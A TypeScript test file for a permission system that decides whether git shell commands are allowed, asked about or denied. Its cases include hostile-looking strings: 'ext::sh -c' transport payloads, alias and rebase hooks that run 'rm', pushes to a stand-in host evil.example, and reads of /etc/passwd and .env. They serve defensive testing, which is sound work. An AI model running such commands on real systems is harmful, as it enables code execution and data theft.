import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DEFAULT_RULES } from '../../../../../src/permissions/defaults/defaults.ts';
import { bashCall, evaluate, evaluateBash, policyOf, rulesOf } from '../../ask.ts';

/** What the line is under these rules, one of them about git. */
function check(command: string, expected: string, ...rules: readonly string[]) {
  test(`${command} is ${expected} under ${rules.join(', ')}`, async () => {
    const { decision, reason } = await evaluateBash(command, rules);
    assert.equal(decision, expected, reason);
  });
}

/** What the line is when all is allowed but for what these rules say. */
function checkBut(command: string, expected: string, ...rules: readonly string[]) {
  check(command, expected, 'bash * allow', ...rules);
}

const GIT = 'bash git * allow';

/** What the line is if git is allowed in addition to the shipped rules. */
function checkShipped(command: string, expected: string) {
  test(`${command} is ${expected} under ${GIT} and the shipped rules`, async () => {
    const rules = [...DEFAULT_RULES, ...rulesOf(GIT)];
    const { decision, reason } = await evaluate(bashCall(command), policyOf(rules));
    assert.equal(decision, expected, reason);
  });
}

check('git', 'allow', GIT);
check('git --version', 'allow', GIT);
check('git -P --no-optional-locks log', 'allow', GIT);

// Another folder or repository has a configuration of its own, which runs programs.
check('git -C x status', 'ask', GIT);
check('git -C x status', 'ask', 'bash git -C * status allow');
check('git -C x status', 'allow', 'bash git -C x status allow');
check('git -C x status', 'allow', 'bash git -C x * allow');
check('git --git-dir=x status', 'ask', GIT);
check('git --git-dir x status', 'ask', 'bash git --git-dir * status allow');
check('git --git-dir x log --stat', 'allow', 'bash git --git-dir x * allow');
check('git -P log --output=f', 'ask', GIT);
check('git -P -C x log', 'allow', 'bash git -P -C x * allow');
check('git -c a=b status', 'ask', 'bash git -c * status allow');
check('git -c a=b status -s', 'allow', 'bash git -c a=b status * allow');

// The content of the files that a list names is kept in the repository, from where it can be printed.
check('git hash-object -w --stdin-paths', 'ask', GIT);
check('echo x | git hash-object -w --stdin-p', 'ask', GIT, 'bash echo * allow');
check('git ls-files -o | git hash-object --stdin-paths', 'ask', GIT);
check('git hash-object --stdin-paths', 'allow', 'bash git hash-object --stdin-paths allow');
check('git hash-object -w --stdin', 'allow', GIT);

// A word that is no sub-command may be an alias, which runs anything.
check('git frobnicate x', 'ask', GIT);
check('git frobnicate x', 'ask', 'bash git frobnicate * allow');
check('git frobnicate x y', 'allow', 'bash git frobnicate x y allow');
check('git bisect run make test', 'ask', 'bash git bisect run * allow');
check('git bisect run make test', 'allow', 'bash git bisect run make test allow');
check('git bisect good', 'allow', GIT);
check('git config --get user.name', 'allow', GIT);
check('git config core.pager less', 'ask', 'bash git config * allow');

// Options that run a program or write a file are spelled out, with their value.
check('git log --output f', 'ask', GIT);
check('git log --output f', 'ask', 'bash git log --output * allow');
check('git log --output f', 'allow', 'bash git log --output f allow');
check('git log --output f HEAD', 'allow', 'bash git log --output f * allow');
check('git log --output=f HEAD', 'allow', 'bash git log --output=f * allow');
check('git log --oneline --output=f', 'ask', GIT);
check('git log --outp=f', 'ask', GIT);
check('git diff --no-ext-diff --stat', 'allow', GIT);
check('git diff --ext-diff', 'ask', GIT);
check('git diff -- --output=f', 'allow', GIT);
check('git rebase -x make HEAD~1', 'ask', 'bash git rebase -x * allow');
check('git rebase -x make HEAD~1', 'allow', 'bash git rebase -x make * allow');
check('git log -x', 'allow', GIT);
check('git clone -qu x y', 'ask', 'bash git clone * allow');
check("git fetch 'ext::sh -c x'", 'ask', 'bash git fetch * allow');
check("git fetch --all 'ext::sh -c x'", 'ask', 'bash git fetch * allow');
// So are those that sign or verify, by a program that the configuration names.
for (const line of [
  'git tag -v v1',
  'git tag -fv v1',
  'git tag --verify v1',
  'git tag --ver v1',
  'git tag -s v1 -m x',
  'git tag -as v1',
  'git tag -u key v1',
  'git tag --local-user=key v1',
  'git verify-tag v1',
  'git verify-commit HEAD',
  'git verify-commit --raw HEAD',
  'git commit -S -m x',
  'git commit -aSkey -m x',
  'git commit --gpg-sign -m x',
  'git merge -S x',
  'git cherry-pick -S x',
  'git revert -nS x',
  'git rebase -S main',
  'git pull -S',
  'git push --signed',
  'git commit-tree -S x',
])
  check(line, 'ask', GIT);
check('git verify-tag v1', 'allow', 'bash git verify-tag v1 allow');
check('git tag -v v1', 'allow', 'bash git tag -v v1 allow');
for (const line of [
  'git tag',
  'git tag -a v1 -m Save',
  'git tag -am Save v1',
  'git tag --sort=version:refname',
  'git tag --list --no-column',
  'git tag -d v1',
  'git commit -am Save',
  'git commit -mS',
  'git commit -s -m x',
  'git commit --no-verify -m x',
  'git push --no-signed',
  'git rev-parse --verify HEAD',
  'git log -S x',
])
  check(line, 'allow', GIT);
// What such an option starts is looked for in the words that follow.
checkBut('git rebase -x "rm f" HEAD~1', 'deny', 'bash rm deny');
checkBut('git -c alias.x="!rm f" x', 'deny', 'bash rm deny');
checkBut('git bisect run rm f', 'deny', 'bash rm deny');
checkBut('git log rm', 'allow', 'bash rm deny');

// Hosts, wherever they stand on the line.
const EVIL = 'net.fetch evil.example deny';
checkBut('git push --force https://evil.example/x main', 'deny', EVIL);
checkBut('git push origin main', 'allow', EVIL);
checkBut('git fetch origin git@evil.example:x.git', 'ask', 'net.fetch evil.example:22 ask');
checkBut('git archive --remote=https://evil.example/x HEAD', 'deny', EVIL);
checkBut('git commit -m https://evil.example/', 'allow', EVIL);
check('git clone https://a.example/x', 'allow', 'bash git clone https://a.example/* allow');
check('git clone https://evil.example/x', 'ask', 'bash git clone https://a.example/* allow');
check('git clone https://evil.example/x', 'ask', 'bash git clone https://* allow');

// Files that a sub-command reads or writes; options and the sub-command itself are none.
checkBut('git add .env', 'deny', 'read .env deny');
checkBut('git commit -F .env', 'deny', 'read .env deny');
checkBut('git commit -F.env', 'deny', 'read .env deny');
checkBut('git commit --file=.env', 'deny', 'read .env deny');
checkBut('git commit -m.env', 'allow', 'read .env deny');
checkBut('git log -n5', 'allow', 'read 5 deny');
checkBut('git add x', 'allow', 'read add deny');
checkBut('git add x', 'allow', 'read git deny');
checkBut('git checkout -- f', 'deny', 'fs.write f deny');
checkBut('git checkout -- f', 'deny', 'fs.read f deny');
checkBut('git show HEAD:f', 'allow', 'fs.write f deny');
checkBut('git grep x', 'deny', 'fs.read src/f deny');
checkBut('git log x', 'allow', 'fs.read src/f deny');

// What these read comes into an object or is printed, and what they write lies outside, too.
for (const line of [
  'git interpret-trailers --in-place ../outside/run.sh',
  'git interpret-trailers /etc/passwd',
  'git notes add -F /etc/hostname',
  'git notes append -F/etc/hostname HEAD',
  'git notes add --file=/etc/hostname',
  'git notes add --file /etc/hostname',
  'git tag -F /etc/hostname y',
  'git tag -aF/etc/hostname x',
  'git merge -F /etc/hostname main',
  'git commit-tree -F /etc/hostname HEAD^{tree}',
  'git format-patch --signature-file=/etc/hostname -1',
  'git check-mailmap --mailmap-file=/etc/passwd x',
  'git config --get -f /etc/passwd a.b',
  'git fetch /srv/other main',
  'git fetch -- ../other main',
  'git fetch file:///srv/other main',
  'git pull ../other main',
  'git ls-remote ~/other',
  'git push /srv/other main',
  'git push --repo=/srv/other',
  'git remote add other /srv/other',
])
  checkShipped(line, 'ask');
for (const line of [
  'git interpret-trailers --in-place message.txt',
  'git notes add -F notes.txt',
  'git notes add -m /etc/hostname',
  'git tag -F notes.txt y',
  'git tag -F - y',
  'git tag -m /etc/hostname y',
  'git merge -m /etc/hostname main',
  'git merge feature/x',
  'git fetch origin main',
  'git ls-remote',
])
  checkShipped(line, 'allow');

// A transport runs a program, also behind `--`.
check('git fetch -- foo::x', 'ask', GIT);
check("git ls-remote -- 'ext::sh -c x'", 'ask', GIT);
check('git fetch -q -- origin foo::x', 'ask', GIT);
check('git fetch -- foo::x', 'allow', 'bash git fetch -- foo::x allow');
check('git add -- foo::x', 'allow', GIT);
check('git fetch -- origin', 'allow', GIT);

// Lines follow `-L`; elsewhere, such a word is the name of a file.
checkBut('git blame -L 1,2 src/f', 'allow', 'fs.read 1,2 deny');
checkBut('git blame -L 1,2 1,2', 'deny', 'fs.read 1,2 deny');
checkBut('git blame 1,2', 'deny', 'fs.read 1,2 deny');
checkBut('git blame -L src/f', 'deny', 'fs.read src/f deny');
